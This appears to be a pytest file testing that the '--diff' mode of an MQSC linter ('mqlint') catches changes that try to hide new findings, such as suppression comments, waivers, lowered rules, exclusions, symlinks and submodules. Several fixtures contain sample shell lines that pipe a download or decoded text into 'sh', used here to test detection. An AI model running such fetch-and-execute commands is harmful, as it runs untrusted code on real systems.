"""`--diff`: what judges a change cannot be changed by it unseen."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.cli.conftest import Mqlint
from tests.files import git, write

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
Save = Callable[[], None]

WRONG = "DEFINE QLOCAL(APP.{}) MAXDEPHT(10)\n"
WAIVER = "{rule: VOC002, object: APP.*, owner: Ada, reason: agreed}"
POLICY = """\
id: OWN001
name: app-depth
summary: A queue of an application is too small
severity: {{default: error}}
confidence: high
why: Messages are lost.
fix: Set MAXDEPTH.
match: {{object: qlocal, name: {{like: APP.*}}}}
check: {{attributes: {{MAXDEPTH: {{ge: {}}}}}}}
message: "{{name}} is too small"
cases:
  - {{name: small, files: {{a.mqsc: DEFINE QLOCAL(APP.A) MAXDEPTH(9)}}, flagged: ["a.mqsc:1"]}}
"""
NEW = "new.mqsc:1 VOC002"
"""The finding that each change below tries to hide."""


@pytest.fixture
def save(project: Path) -> Save:
    """Commits all that is in the project."""

    def run() -> None:
        git("add", "--all", cwd=project)
        git("commit", "--quiet", "--allow-empty", "-m", "more", cwd=project)

    git("init", "--quiet", cwd=project)
    return run


def found(mqlint: Mqlint, *words: str) -> list[str]:
    """Places and rules of new findings."""
    done = mqlint("check", "--diff", "HEAD", "--format", "json", *words)
    assert done.exit_code in (0, 1), done.output
    findings = json.loads(done.stdout)["findings"]
    return [
        f"{finding['path']}:{finding['start']['line']} {finding['rule']}" for finding in findings
    ]


ATTEMPTS = {
    "a comment": (
        {"new.mqsc": "* mqlint: ignore[VOC002] agreed\n" + WRONG.format("NEW")},
        ["new.mqsc:1 IGN007", "new.mqsc:2 VOC002"],
    ),
    "a comment moved to another command": (
        {
            "old.mqsc": WRONG.format("OLD"),
            "new.mqsc": "* mqlint: ignore[VOC002] agreed\n" + WRONG.format("NEW"),
        },
        ["new.mqsc:2 VOC002", "old.mqsc:1 VOC002"],
    ),
    "a command changed under its comment": (
        {
            "old.mqsc": "* mqlint: ignore[VOC002] agreed\n" + WRONG.format("OTHER"),
            "new.mqsc": WRONG.format("NEW"),
        },
        [NEW, "old.mqsc:2 VOC002"],
    ),
    "a waiver": (
        {"mqlint-waivers.yaml": f"waivers: [{WAIVER}]\n"},
        ["mqlint-waivers.yaml:1 IGN008", NEW],
    ),
    "a waiver in a file named anew": (
        {
            "mqlint.yaml": "target: {level: 9.4.0}\nwaivers: w.yaml\n",
            "w.yaml": f"waivers: [{WAIVER}]\n",
        },
        [NEW, "w.yaml:1 IGN008"],
    ),
    "a rule off": (
        {"mqlint.yaml": "target: {level: 9.4.0}\nseverity: {VOC002: off}\n"},
        ["mqlint.yaml:2 IGN010", NEW],
    ),
    "a rule lowered": (
        {"mqlint.yaml": "target: {level: 9.4.0}\nseverity: {VOC002: note}\n"},
        ["mqlint.yaml:2 IGN010", NEW],
    ),
    "files left out": (
        {"mqlint.yaml": "target: {level: 9.4.0}\nexclude: ['*.mqsc']\n"},
        ["mqlint.yaml:2 IGN010", NEW],
    ),
    "another release": (
        {"mqlint.yaml": "target: {level: 7.5.0}\n"},
        ["mqlint.yaml:1 IGN010", NEW],
    ),
    "another language": (
        {"mqlint.yaml": "target: {level: 9.4.0}\nfiles: {types: {'*.mqsc': ini}}\n"},
        ["mqlint.yaml:2 IGN010", NEW],
    ),
    "another language by clients": (
        {"mqlint.yaml": "target: {level: 9.4.0}\nclients: [{files: '*.mqsc', host: $.a}]\n"},
        ["mqlint.yaml:2 IGN010", NEW],
    ),
    "a configuration of higher precedence": (
        {".mqlint.yaml": "severity: {VOC002: off}\n", "mqlint.yaml": ""},
        ["mqlint.yaml:1 IGN010", NEW],
    ),
    "a rule off in a file that is extended": (
        {
            "mqlint.yaml": "target: {level: 9.4.0}\nextends: b.yaml\n",
            "b.yaml": "\nseverity: {VOC002: off}\n",
        },
        ["b.yaml:2 IGN010", NEW],
    ),
    "a profile that lowers a rule": (
        {
            "mqlint.yaml": "target: {level: 9.4.0}\n"
            "profiles:\n  own:\n    extends: default\n    severity: {VOC002: note}\n",
        },
        ["mqlint.yaml:5 IGN010", NEW],
    ),
    "a configuration further down": (
        {"sub/mqlint.yaml": "severity: {VOC002: off}\n", "sub/new.mqsc": WRONG.format("SUB")},
        [NEW, "sub/mqlint.yaml:1 IGN010", "sub/new.mqsc:1 VOC002"],
    ),
}


@pytest.fixture
def base(project: Path, save: Save) -> Path:
    """A commit with a configuration and a comment, and a new finding after it."""
    write(
        project,
        {
            "mqlint.yaml": "target: {level: 9.4.0}\n",
            "old.mqsc": "* mqlint: ignore[VOC002] agreed\n" + WRONG.format("OLD"),
        },
    )
    save()
    write(project, {"new.mqsc": WRONG.format("NEW")})
    return project


@pytest.mark.slow
@pytest.mark.parametrize("name", ATTEMPTS)
def test_a_change_does_not_excuse_itself(base: Path, mqlint: Mqlint, name: str) -> None:
    files, expected = ATTEMPTS[name]
    write(base, files)
    assert found(mqlint) == expected
    assert mqlint("check", "--diff", "HEAD").exit_code == 1


def test_a_configuration_that_goes_judges_all_the_same(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    write(base, {"mqlint.yaml": "severity: {VOC002: warning}\nfail_on: warning\n"})
    (base / "new.mqsc").unlink()
    save()
    write(base, {"new.mqsc": WRONG.format("NEW")})
    (base / "mqlint.yaml").unlink()
    assert found(mqlint) == ["mqlint.yaml:1 IGN010", "mqlint.yaml:1 IGN010", NEW]
    assert mqlint("check", "--diff", "HEAD").exit_code == 1


QUEUES = "".join(f"DEFINE QLOCAL(APP.Q{number})\n" for number in range(6))
LAX = {"old/mqlint.yaml": "severity: {VOC002: off}\n", "old/x.mqsc": "DEFINE QLOCAL(OTHER.Q)\n"}
MOVES = {
    "to an excluded folder": ({"mqlint.yaml": "exclude: [old]\n"}, QUEUES, True),
    "and changed": ({"mqlint.yaml": "exclude: [old]\n"}, QUEUES + WRONG.format("X"), True),
    "to a project with looser settings": ({"mqlint.yaml": "", **LAX}, QUEUES, True),
    "to a project that excludes it": (
        {"mqlint.yaml": "", "old/mqlint.yaml": "exclude: [app.mqsc]\n", "old/x.mqsc": ""},
        QUEUES,
        True,
    ),
    "to a project with the same settings": ({"mqlint.yaml": "", "old/mqlint.yaml": ""}, "", False),
    "to a project with stricter settings": (
        {"mqlint.yaml": "", "old/mqlint.yaml": "profiles: [production]\n"},
        QUEUES,
        False,
    ),
    "inside the project": ({"mqlint.yaml": "exclude: [other]\n"}, QUEUES, False),
    "while a long file has one line of it": (
        {"mqlint.yaml": "exclude: [old]\n", "app.mqsc": "DEFINE QLOCAL(APP.Q1)\n"},
        QUEUES,
        False,
    ),
    "while another file is added": (
        {"mqlint.yaml": "exclude: [old]\n"},
        "DEFINE QLOCAL(OTHER.Q)\nDEFINE QLOCAL(APP.Q1)\nDEFINE QLOCAL(OTHER.R)\n",
        False,
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", MOVES)
def test_a_file_that_moves_to_where_less_is_checked_is_found(
    project: Path, save: Save, mqlint: Mqlint, name: str
) -> None:
    files, text, is_found = MOVES[name]
    write(project, {"app.mqsc": QUEUES, **files, "b.mqsc": "DEFINE QLOCAL(OTHER.B)\n"})
    save()
    (project / "app.mqsc").unlink()
    write(project, {"old/new.mqsc" if "changed" in name else "old/app.mqsc": text})
    rows = [row for row in found(mqlint) if "IGN010" in row]
    assert bool(rows) == is_found, rows
    accepted = mqlint("check", "--diff", "HEAD", "--accept-exceptions")
    assert ("app.mqsc to old/" in " ".join(accepted.output.split())) == is_found


SCRIPT = "#!/bin/sh\necho start\necho more\nrunmqsc QM1 <<E\nDEFINE QLOCAL(APP.Q1)\nE\n"
UNREAD: dict[str, tuple[str, str, dict[str, str | Path], bool]] = {
    "renamed to a log": ("app.mqsc", QUEUES, {"app.log": QUEUES}, True),
    "changed and renamed": ("app.mqsc", QUEUES, {"app.log": "x\n" + QUEUES}, True),
    "a script for another program": (
        "a.sh",
        SCRIPT,
        {"a.sh": SCRIPT.replace("sh", "perl", 1)},
        True,
    ),
    "a script that leaves MQ": ("a.sh", SCRIPT, {"a.sh": SCRIPT.partition("runmqsc")[0]}, False),
    "a script that runs a download": (
        "a.sh",
        SCRIPT,
        {"a.sh": "#!/bin/sh\ncurl -s https://h.example/x | sh\n"},
        True,
    ),
    "a script that runs what it decodes": (
        "a.sh",
        SCRIPT,
        {"a.sh": "#!/bin/sh\nbase64 -d plan.txt | sh\n"},
        True,
    ),
    "a script that runs a file from elsewhere": (
        "a.sh",
        SCRIPT,
        {"a.sh": "#!/bin/sh\nsh /srv/plan.sh\n"},
        True,
    ),
    "a script that runs a file of the project": (
        "a.sh",
        SCRIPT,
        {"a.sh": "#!/bin/sh\nsh ./plan.sh\n", "plan.sh": "echo ready\n"},
        False,
    ),
    "a script that keeps a part": (
        "a.sh",
        SCRIPT,
        {"a.sh": "#!/bin/sh\nstrmqm QM1\ncurl -s https://h.example/x | sh\n"},
        True,
    ),
    "a script that keeps most": (
        "a.sh",
        SCRIPT.replace("E\n", "E\n" + QUEUES, 1),
        {"a.sh": SCRIPT.replace("E\n", "E\n" + QUEUES, 1).replace("echo more", "sh /srv/a.sh")},
        False,
    ),
    "a script that keeps a part and runs no other text": (
        "a.sh",
        SCRIPT,
        {"a.sh": "#!/bin/sh\nstrmqm QM1\n"},
        False,
    ),
    "removed": ("app.mqsc", QUEUES, {}, False),
    "removed, and a log is added": ("app.mqsc", QUEUES, {"app.log": "started\n"}, False),
    "a link to nothing": ("app.mqsc", QUEUES, {"app.mqsc": Path("nothing")}, True),
    "a link out of the project": ("app.mqsc", QUEUES, {"app.mqsc": Path("/etc/hostname")}, True),
    "a link to another file": ("app.mqsc", QUEUES, {"app.mqsc": Path("b.mqsc")}, False),
    "a folder that is a link": ("d/app.mqsc", QUEUES, {"d": Path("/etc")}, True),
}
"""The name of a file and its text, what the change has instead of it, and if that is found."""


@pytest.mark.slow
@pytest.mark.parametrize("name", UNREAD)
def test_a_file_that_is_no_longer_read_is_found(
    project: Path, save: Save, mqlint: Mqlint, name: str
) -> None:
    path, text, files, is_found = UNREAD[name]
    write(project, {path: text, "b.mqsc": "DEFINE QLOCAL(OTHER.B)\n"})
    save()
    (project / path).unlink()
    if "/" in path:
        (project / path).parent.rmdir()
    for new, content in files.items():
        if isinstance(content, Path):
            (project / new).symlink_to(content)
        else:
            write(project, {new: content})
    rows = [row for row in found(mqlint) if "IGN010" in row]
    assert bool(rows) == is_found, rows


@pytest.mark.parametrize("named", [True, False])
def test_a_baseline_that_grows_does_not_count(
    base: Path, save: Save, mqlint: Mqlint, named: bool
) -> None:
    if not named:
        write(base, {"mqlint.yaml": "baseline: mqlint-baseline.json\n"})
    (base / "new.mqsc").unlink()
    mqlint("baseline", "create")
    save()
    write(base, {"new.mqsc": WRONG.format("NEW")})
    mqlint("baseline", "update", "--add")
    words = ["--baseline", "mqlint-baseline.json"] if named else []
    assert found(mqlint, *words) == ["mqlint-baseline.json:2 IGN009", NEW]
    assert found(mqlint, *words, "--accept-exceptions") == ["mqlint-baseline.json:2 IGN009"]


@pytest.mark.slow
@pytest.mark.parametrize("named", [True, False])
@pytest.mark.parametrize("text", [POLICY.format(1), None])
def test_a_policy_that_is_weaker_does_not_count(
    base: Path, save: Save, mqlint: Mqlint, text: str | None, named: bool
) -> None:
    write(
        base, {"own/a.yaml": POLICY.format(1000), "own/z.yaml": POLICY.format(1).replace("1", "2")}
    )
    write(base, {"mqlint.yaml": "" if named else "policies: [own]\n", "new.mqsc": ""})
    save()
    words = ["--policies", "own"] if named else []
    write(base, {"new.mqsc": "DEFINE QLOCAL(APP.NEW) MAXDEPTH(5)\n"})
    if text is None:
        (base / "own/a.yaml").unlink()
    else:
        write(base, {"own/a.yaml": text})
    assert found(mqlint, *words) == ["new.mqsc:1 OWN001", "own/a.yaml:1 IGN011"]
    assert found(mqlint, *words, "--accept-exceptions") == ["own/a.yaml:1 IGN011"]


def test_the_command_line_lets_exceptions_count_and_they_are_reported(
    base: Path, mqlint: Mqlint
) -> None:
    for files, _ in (ATTEMPTS["a comment"], ATTEMPTS["a waiver"]):
        write(base, files)
    done = mqlint("check", "--diff", "HEAD", "--accept-exceptions")
    assert done.exit_code == 0, done.output
    assert "it applies because of --accept-exceptions" in done.output
    assert found(mqlint, "--accept-exceptions") == [
        "mqlint-waivers.yaml:1 IGN008",
        "new.mqsc:1 IGN007",
    ]


@pytest.mark.parametrize(
    "variable", ["MQLINT_ACCEPT_EXCEPTIONS", "MQLINT_CHECK_ACCEPT_EXCEPTIONS", "ACCEPT_EXCEPTIONS"]
)
def test_no_variable_and_no_file_lets_them_count(
    base: Path, mqlint: Mqlint, monkeypatch: pytest.MonkeyPatch, variable: str
) -> None:
    monkeypatch.setenv(variable, "1")
    write(base, ATTEMPTS["a comment"][0])
    assert mqlint("check", "--diff", "HEAD").exit_code == 1
    write(base, {"mqlint.yaml": "accept_exceptions: true\n"})
    assert mqlint("check", "--diff", "HEAD").exit_code == 2


def test_it_needs_a_change(base: Path, mqlint: Mqlint) -> None:
    done = mqlint("check", "--accept-exceptions")
    assert done.exit_code == 2
    assert "--accept-exceptions needs --diff" in done.stderr


def test_exceptions_cannot_be_set_aside(base: Path, mqlint: Mqlint) -> None:
    write(base, {"mqlint.yaml": "severity: {IGN010: off, VOC002: off}\n"})
    assert found(mqlint).count("mqlint.yaml:1 IGN010") == 3
    write(base, {"mqlint-waivers.yaml": f"waivers: [{WAIVER.replace('VOC002', 'IGN010')}]\n"})
    assert mqlint("check", "--diff", "HEAD").exit_code == 2


def test_paths_do_not_hide_what_the_configuration_loses(base: Path, mqlint: Mqlint) -> None:
    write(base, ATTEMPTS["a rule off"][0])
    assert found(mqlint, "old.mqsc") == ["mqlint.yaml:2 IGN010"]


def test_what_is_stricter_brings_findings_at_once_or_later(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    """A comment and a waiver that go bring their findings back; a setting waits for the merge."""
    write(base, {"mqlint-waivers.yaml": f"waivers: [{WAIVER.replace('APP.*', 'APP.NEW')}]\n"})
    save()
    (base / "mqlint-waivers.yaml").unlink()
    write(base, {"old.mqsc": WRONG.format("OLD"), "mqlint.yaml": "fail_on: note\n"})
    assert found(mqlint) == ["mqlint.yaml:1 IGN010", NEW, "old.mqsc:1 VOC002"]


def test_a_first_configuration_can_be_merged(project: Path, save: Save, mqlint: Mqlint) -> None:
    write(project, {"old.mqsc": WRONG.format("OLD"), "vendor/a.mqsc": WRONG.format("V")})
    save()
    write(project, {"mqlint.yaml": "exclude: [vendor]\nbaseline: mqlint-baseline.json\n"})
    mqlint("baseline", "create")
    assert found(mqlint) == [
        "mqlint-baseline.json:2 IGN009",
        "mqlint.yaml:1 IGN010",
        "mqlint.yaml:1 IGN010",
    ]
    assert mqlint("check", "--diff", "HEAD").exit_code == 0
    save()
    assert found(mqlint) == []


def test_a_base_that_is_wrong_says_so_and_can_be_mended(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    write(base, {"mqlint.yaml": "severty: {}\n"})
    (base / "new.mqsc").unlink()
    save()
    write(base, {"mqlint.yaml": ""})
    done = mqlint("check", "--diff", "HEAD")
    assert done.exit_code == 2
    assert "mqlint.yaml at HEAD:1:1: unknown key 'severty'" in done.stderr
    assert mqlint("check", "--diff", "HEAD", "--accept-exceptions").exit_code == 0


def test_a_configuration_that_is_named_is_that_of_the_base_too(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    (base / "new.mqsc").unlink()
    write(base, {"ci.yaml": "fail_on: note\n"})
    save()
    write(base, {"ci.yaml": "severity: {VOC002: off}\n", "new.mqsc": WRONG.format("NEW")})
    assert found(mqlint, "--config", "ci.yaml") == ["ci.yaml:1 IGN010", "ci.yaml:1 IGN010", NEW]
    write(base, {"other.yaml": "severity: {VOC002: off}\n"})
    assert found(mqlint, "--config", "other.yaml") == []


def test_links_of_the_change_do_not_lead_the_base_astray(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    (base / "new.mqsc").unlink()
    write(base, {"shared/w.yaml": f"waivers: [{WAIVER}]\n", "shared/own/a.yaml": POLICY.format(9)})
    (base / "mq").symlink_to("shared")
    write(base, {"mqlint.yaml": "waivers: mq/w.yaml\npolicies: [mq/own]\n"})
    save()
    write(base, {"new.mqsc": "DEFINE QLOCAL(APP.NEW) MAXDEPHT(1) MAXDEPTH(1)\n"})
    assert found(mqlint) == ["new.mqsc:1 OWN001"]
    (base / "mq").unlink()
    write(base, {"mq/w.yaml": "", "mq/own/a.yaml": POLICY.format(0)})
    assert found(mqlint) == ["mq/own/a.yaml:1 IGN011", NEW, "new.mqsc:1 OWN001"]


def test_a_change_cannot_choose_an_old_configuration(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    (base / "new.mqsc").unlink()
    write(base, {"mqlint.yaml": "severity: {VOC002: off}\n"})
    save()
    git("branch", "old", cwd=base)
    write(base, {"mqlint.yaml": ""})
    save()
    git("branch", "strict", cwd=base)
    git("checkout", "--quiet", "old", cwd=base)
    write(base, {"new.mqsc": WRONG.format("NEW")})
    done = mqlint("check", "--diff", "strict...", "--format", "json")
    assert [load["path"] for load in json.loads(done.stdout)["findings"]] == [
        "mqlint.yaml",
        "new.mqsc",
    ]


def test_a_waiver_that_is_widened_covers_what_it_covered(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    (base / "new.mqsc").unlink()
    write(base, {"mqlint-waivers.yaml": f"waivers: [{WAIVER.replace('APP.*', 'APP.A*')}]\n"})
    save()
    write(base, {"mqlint-waivers.yaml": f"waivers: [{WAIVER}]\n"})
    write(base, {"new.mqsc": WRONG.format("AGREED") + WRONG.format("NEW")})
    assert found(mqlint) == ["mqlint-waivers.yaml:1 IGN008", "new.mqsc:2 VOC002"]
    write(base, {"mqlint-waivers.yaml": f"waivers: [{WAIVER.replace('APP.*', 'APP.AGREED')}]\n"})
    assert "new.mqsc:2 VOC002" in found(mqlint)
    assert "new.mqsc:1 VOC002" not in found(mqlint)


@pytest.mark.slow
def test_branches_of_a_submodule_judge_nothing(base: Path, save: Save, mqlint: Mqlint) -> None:
    """A submodule has no branch of the name of BASE, or one that the change brings."""
    made = base / "made"
    made.mkdir()
    git("init", "--quiet", "--initial-branch", "trunk", cwd=made)
    write(made, {"s.mqsc": "DEFINE QLOCAL(S)\n"})
    git("add", ".", cwd=made)
    git("commit", "--quiet", "--message", "s", cwd=made)
    allowed = ("-c", "protocol.file.allow=always")
    git(*allowed, "submodule", "--quiet", "add", "./made", "sub", cwd=base)
    shutil.rmtree(made)
    (base / "new.mqsc").unlink()
    save()
    git("branch", "base", cwd=base)
    write(base, {"new.mqsc": WRONG.format("NEW")})
    assert found(mqlint, "--diff", "base") == [NEW]
    git("checkout", "--quiet", "-b", "base", cwd=base / "sub")
    write(base / "sub", {"mqlint.yaml": "severity: {VOC002: off}\n", "t.mqsc": WRONG.format("T")})
    git("add", ".", cwd=base / "sub")
    git("commit", "--quiet", "--message", "lax", cwd=base / "sub")
    rows = found(mqlint, "--diff", "base")
    assert "sub/mqlint.yaml:1 IGN010" in rows
    assert "sub/t.mqsc:1 VOC002" in rows


def test_files_in_place_of_which_is_a_submodule_are_reported(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    (base / "new.mqsc").unlink()
    write(base, {"sub/s.mqsc": "DEFINE QLOCAL(S)\n"})
    save()
    commit = git("rev-parse", "HEAD", cwd=base).strip()
    (base / "sub/s.mqsc").unlink()
    assert found(mqlint) == []
    git("rm", "-r", "--quiet", "--cached", "sub", cwd=base)
    git("update-index", "--add", "--cacheinfo", f"160000,{commit},sub", cwd=base)
    assert found(mqlint) == ["sub/s.mqsc:1 IGN010"]


def test_lines_that_are_written_otherwise_are_the_same(
    base: Path, save: Save, mqlint: Mqlint
) -> None:
    (base / "new.mqsc").unlink()
    text = "DEFINE QLOCAL(ONE)\nDEFINE QLOCAL(TWO) REPLACE\nDEFINE QLOCAL(THREE)\n"
    write(base, {"s.mqsc": text})
    save()
    (base / "s.mqsc").unlink()
    write(base, {"s.log": f"kept\n{text.lower().replace(' ', '  ')}"})
    assert found(mqlint) == ["s.log:1 IGN010"]
